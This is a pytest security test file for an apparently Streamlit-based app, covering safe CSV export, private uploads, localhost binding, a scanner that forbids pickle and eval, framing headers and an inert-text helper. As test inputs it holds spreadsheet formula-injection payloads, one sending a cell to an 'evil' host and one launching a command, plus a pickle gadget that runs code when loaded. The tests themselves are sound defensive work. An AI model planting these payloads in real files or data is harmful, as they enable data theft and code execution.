"""Security: safe CSV downloads, private uploads, localhost by default, no pickle/eval of user input."""
from __future__ import annotations

import gc
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from lab_paths import ROOT

from core.output import safe_csv


# ------------------------------------------------------------------ formula injection
def test_formula_cells_get_a_leading_apostrophe_and_numbers_stay_numbers():
    df = pd.DataFrame({"name": ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
                                "@SUM(A1)", "\tx", "\rx", "Ann", "-3", "+1.5e3", None],
                       "count": [1, -2, 3, 4, 5, 6, 7, 8, 9, 10],
                       "score": [-0.5, 0.1, 2.0, -1e-3, 0.0, 1.0, 3.5, -7.0, 8.0, 9.0]})
    text = safe_csv.to_csv(df)
    back = pd.read_csv(io.StringIO(text), dtype={"name": str}, keep_default_na=False)
    assert back["name"].tolist() == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+1+cmd|' /C calc'!A0", "'-2+3",
                                     "'@SUM(A1)", "'\tx", "'\rx", "Ann", "-3", "+1.5e3", ""]
    assert back["count"].tolist() == df["count"].tolist()  # negative numbers are not touched
    assert back["score"].tolist() == df["score"].tolist()
    # column names are cells too
    assert safe_csv.to_csv(pd.DataFrame({"=cmd": [1]})).splitlines()[0] == '"\'=cmd"'
    assert safe_csv.neutralise(-5) == -5 and safe_csv.neutralise("safe") == "safe"


def test_download_table_uses_the_safe_writer(monkeypatch):
    import ui.widgets.page_widgets as common

    seen = {}
    monkeypatch.setattr(common.st, "download_button", lambda label, data, **kw: seen.update(data=data, **kw))
    common.download_table(pd.DataFrame({"zip": ["=1+1", "02138"], "k": [-1, 2]}), "k-anonymity table")
    data = seen["data"]() if callable(seen["data"]) else seen["data"]
    assert data.splitlines() == ['"zip","k"', '"\'=1+1",-1', '"02138",2']


# ------------------------------------------------------------------ uploads
def test_uploads_are_private_shared_by_content_and_deleted_when_no_session_needs_them():
    from ui.widgets import uploads

    a, b = {}, {}
    pa = uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=a)
    pb = uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=b)
    assert pa == pb and Path(pa).read_bytes().startswith(b"user")
    assert stat.S_IMODE(os.stat(pa).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(Path(pa).parent).st_mode) == 0o700
    assert not str(pa).startswith(os.path.join(os.sep, "tmp", "location-"))  # not the old world-readable name
    # the same session re-running with the same upload keeps the same file
    assert uploads.save_upload(b"user,timestamp,site\n1,0,x\n", kind="t", state=a) == pa
    del a  # session a ends: b still needs the file
    gc.collect()
    assert os.path.exists(pa)
    pb2 = uploads.save_upload(b"other,bytes\n", kind="t", state=b)  # b uploads another file: the first goes
    assert pb2 != pa and not os.path.exists(pa) and os.path.exists(pb2)
    uploads.drop_upload("t", state=b)
    assert not os.path.exists(pb2)
    c = {}
    pc = uploads.save_upload(b"x\n", kind="t", state=c)
    del c
    gc.collect()
    assert not os.path.exists(pc)


# ------------------------------------------------------------------ run.sh binds to localhost
def _fake_venv(tmp_path: Path) -> Path:
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    py = venv / "bin" / "python"
    py.write_text('#!/usr/bin/env bash\nprintf "%s\\n" "$@"\n')
    py.chmod(0o755)
    want = subprocess.run(["sha256sum", str(ROOT / "requirements.txt")], capture_output=True, text=True,
                          check=True).stdout.split()[0]
    (venv / ".requirements.sha").write_text(want + "\n")
    return venv


@pytest.mark.parametrize("extra, expect", [
    ([], ["--server.address", "127.0.0.1"]),
    (["--server.port", "9000"], ["--server.address", "127.0.0.1", "--server.port", "9000"]),
    (["--server.address", "0.0.0.0"], ["--server.address", "0.0.0.0"]),
    (["--server.address=10.0.0.5"], ["--server.address=10.0.0.5"]),
])
def test_run_sh_app_binds_to_localhost_unless_an_address_is_given(tmp_path, extra, expect):
    env = {k: v for k, v in os.environ.items() if k != "STREAMLIT_SERVER_ADDRESS"}
    env["VENV"] = str(_fake_venv(tmp_path))
    proc = subprocess.run(["bash", str(ROOT / "run.sh"), "app", *extra], capture_output=True, text=True,
                          env=env, timeout=30)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split("\n")[:-1] == ["-m", "streamlit", "run", "serve.py", *expect]


# ------------------------------------------------------------------ no pickle / eval of anything
FORBIDDEN = {
    r"\bpickle\b": "pickle",
    r"\bcPickle\b|\bdill\b|\bcloudpickle\b": "pickle variants",
    r"(?<![\w.])eval\s*\(": "eval(",
    r"(?<![\w.])exec\s*\(": "exec(",
    r"(?<![\w.])compile\s*\(": "compile(",
    r"(?<![\w.])__import__\s*\(": "__import__(",
    r"\bjoblib\.load\b|\bjoblib import load\b": "joblib.load",
    r"\byaml\.(unsafe_)?load\s*\(|\byaml\.load_all\b|\bFullLoader\b|\bUnsafeLoader\b": "yaml.load",
    r"\bread_pickle\b|\bto_pickle\b": "pandas pickle",
    r"allow_pickle\s*=\s*True": "numpy allow_pickle",
    r"\bmarshal\b|\bshelve\b": "marshal/shelve",
    r"\btorch\.load\b": "torch.load",
    r"shell\s*=\s*True": "subprocess shell=True",
}


def _code_lines(path: Path):
    """Source lines without comments and docstrings/strings (a mention in prose is not a call)."""
    import tokenize

    with open(path, "rb") as fh:
        tokens = list(tokenize.tokenize(fh.readline))
    keep: dict[int, list[str]] = {}
    for tok in tokens:
        if tok.type in (tokenize.COMMENT, tokenize.STRING, tokenize.ENCODING, tokenize.NL, tokenize.NEWLINE):
            continue
        if getattr(tokenize, "FSTRING_MIDDLE", None) == tok.type:
            continue
        keep.setdefault(tok.start[0], []).append(tok.string)
    return {n: " ".join(parts).replace(" . ", ".").replace(" (", "(").replace(" .", ".").replace(". ", ".")
            for n, parts in keep.items()}


def test_no_pickle_eval_or_unsafe_loaders_in_the_app():
    files = [ROOT / "app.py", *sorted((ROOT / "core").rglob("*.py")), *sorted((ROOT / "ui").rglob("*.py")),
             *sorted((ROOT / "pages").rglob("*.py"))]
    assert len(files) > 20
    hits = []
    for path in files:
        for n, line in _code_lines(path).items():
            for pattern, what in FORBIDDEN.items():
                if re.search(pattern, line):
                    hits.append(f"{path.relative_to(ROOT)}:{n}: {what}: {line.strip()[:100]}")
    assert not hits, "unsafe deserialisation/evaluation:\n" + "\n".join(hits)


def test_the_scanner_finds_what_it_looks_for(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text("import pickle\nx = pickle.loads(data)\ny = eval(text)\nz = joblib.load(path)\n"
                   "w = yaml.load(s)\nmodel.eval()\n# eval( in a comment\ns = 'exec( in a string'\n")
    lines = _code_lines(bad)
    found = {what for line in lines.values() for p, what in FORBIDDEN.items() if re.search(p, line)}
    assert found == {"pickle", "eval(", "joblib.load", "yaml.load"}


# ------------------------------------------------------------------ the result store never unpickles
class _Marker:
    """Unpickling this creates ``path`` (builtins.open): the proof that a planted store row ran code."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def test_a_planted_pickle_row_runs_no_code_in_the_cli(tmp_path):
    import diskcache

    from core.runtime.store import result_key
    from core.scenario import get

    directory, marker = tmp_path / "store", tmp_path / "marker"
    sc = get("reconstruction")
    key = result_key(sc.name, sc.resolve({"n": 20, "trials": 2}), 0)
    planted = diskcache.Cache(str(directory))  # as a shared LAB_STORE or another program could write it
    planted.set(key, _Marker(marker))
    planted.close()
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1", "LAB_STORE": str(directory)}
    proc = subprocess.run([sys.executable, "-m", "core", "run", "reconstruction", "--set", "n=20", "--set",
                           "trials=2"], capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
    assert not marker.exists()
    assert proc.returncode == 0 and json.loads(proc.stdout)["metrics"]
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "pickle" in lines[0] and lines[0].startswith("warning: result store:"), proc.stderr


# ------------------------------------------------------------------ frames: the shipped reverse proxy
def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_http(url: str, deadline_s: float = 90) -> None:
    import time
    import urllib.request

    deadline = time.time() + deadline_s
    while time.time() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2).read()
            return
        except OSError:
            time.sleep(0.3)
    raise AssertionError(f"{url} did not answer")


def _stop(proc) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()


def test_streamlit_alone_cannot_forbid_framing_and_the_shipped_proxy_does(tmp_path):
    import shutil
    import socket
    import urllib.request

    caddy = shutil.which("caddy")
    if caddy is None:
        if os.environ.get("CI"):
            pytest.fail("CI needs caddy for the proxy test (run.sh installs it)")
        pytest.skip("caddy is not installed (apt-get install caddy)")
    app_port, proxy_port = _free_port(), _free_port()
    env = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}
    app = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(ROOT / "serve.py"), "--server.port",
                            str(app_port), "--server.address", "127.0.0.1", "--server.headless", "true"],
                           cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    proxy = None
    try:
        _wait_http(f"http://127.0.0.1:{app_port}/_stcore/health")
        direct = urllib.request.urlopen(f"http://127.0.0.1:{app_port}/", timeout=10)
        # Streamlit itself sends neither header (that is why the proxy exists)
        assert direct.headers.get("X-Frame-Options") is None
        assert "frame-ancestors" not in (direct.headers.get("Content-Security-Policy") or "")
        proxy = subprocess.Popen([caddy, "run", "--config", str(ROOT / "deploy" / "Caddyfile"), "--adapter",
                                  "caddyfile"], cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                 env={**env, "LAB_SITE": f":{proxy_port}", "LAB_UPSTREAM": f"127.0.0.1:{app_port}",
                                      "HOME": str(tmp_path), "XDG_DATA_HOME": str(tmp_path / "data"),
                                      "XDG_CONFIG_HOME": str(tmp_path / "config")})
        base = f"http://127.0.0.1:{proxy_port}"
        _wait_http(f"{base}/_stcore/health", 30)
        for path in ("/", "/Compare_runs", "/_stcore/health"):
            resp = urllib.request.urlopen(base + path, timeout=10)
            assert resp.status == 200
            assert resp.headers["X-Frame-Options"] == "DENY", path
            assert "frame-ancestors 'none'" in resp.headers["Content-Security-Policy"], path
            assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert b"<html" in urllib.request.urlopen(base + "/", timeout=10).read().lower()
        # the app's websocket passes through the proxy
        with socket.create_connection(("127.0.0.1", proxy_port), timeout=10) as s:
            s.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: 127.0.0.1:{proxy_port}\r\nUpgrade: websocket\r\n"
                       "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                       f"Sec-WebSocket-Version: 13\r\nOrigin: http://127.0.0.1:{proxy_port}\r\n\r\n").encode())
            head = s.recv(4096).decode(errors="replace")
        assert head.startswith("HTTP/1.1 101"), head[:200]
    finally:
        if proxy is not None:
            _stop(proxy)
        _stop(app)


# ------------------------------------------------------------------ the inert-text helper, known answers
def test_inert_quotes_a_value_as_code_one_line_and_short():
    from core.output.inert import inert

    assert inert("[Click](http://x.org)") == "`[Click](http://x.org)`"
    assert inert("a`b") == "``a`b``" and inert("`x") == "`` `x ``" and inert("") == "`(empty)`"
    assert inert("a\nb\x1b\u202e") == "`a\\nb\\x1b\\u202e`"  # no new line, no hidden direction override
    long = inert("7" * 1_000_000)
    assert long.endswith("… (1,000,000 characters)") and len(long) < 120


def test_inert_text_keeps_prose_readable_but_links_nothing():
    from core.output.inert import inert_text

    text = inert_text("n: expected int in [5, 2000], got '[x](http://e.org) ![i](http://1.2.3.4/p.png) www.e.org a@b.c'")
    assert "query_ratio" in inert_text("query_ratio")  # names read as written
    assert "\\[x\\](http:\u200b//e.org)" in text and "!\\[i\\]" in text
    assert "www\u200b.e.org" in text and "a\u200b@b.c" in text
    assert inert_text("<img src=x>") == "\\<img src=x\\>" and inert_text(":red[x]") == ":red\\[x\\]"
    assert "\n" not in inert_text("one\ntwo\r\nthree")


@pytest.mark.parametrize("value, problem", [("inf", "not a finite number"), ("-Infinity", "not a finite number"),
                                            ("nan", "not a finite number"), ("1e309", "too large a number"),
                                            ("-1e400", "too large a number"), ("x\x00", "holds control characters"),
                                            ("7" * 201, "too long (201 characters; at most 200)"),
                                            ("-1", None), ("1e300", None), ("0.5, 1, 2", None), ("lp", None),
                                            ("[x](http://e.org)", None)])
def test_link_values_no_widget_could_take(value, problem):
    from core.output.inert import link_value_problem

    assert link_value_problem(value) == problem


def test_inert_text_leaves_no_link_trigger_whatever_the_text():
    from hypothesis import given, settings, strategies as hs

    from core.output.inert import inert, inert_text

    @settings(max_examples=300, deadline=None, derandomize=True)
    @given(hs.text(alphabet=hs.sampled_from(list("[]()!<>`$:/.@wWhtpsx \\\n\x1b\u202e")) | hs.characters(),
                   max_size=80))
    def check(text):
        out = inert_text(text)
        assert "\n" not in out and "://" not in out and not re.search(r"(?i)www\.", out)
        assert not re.search(r"(?<!\\)[\[\]<>`$]", out.replace("\\\\", ""))  # every opener escaped
        code = inert(text)
        assert "\n" not in code and code.startswith("`")

    check()
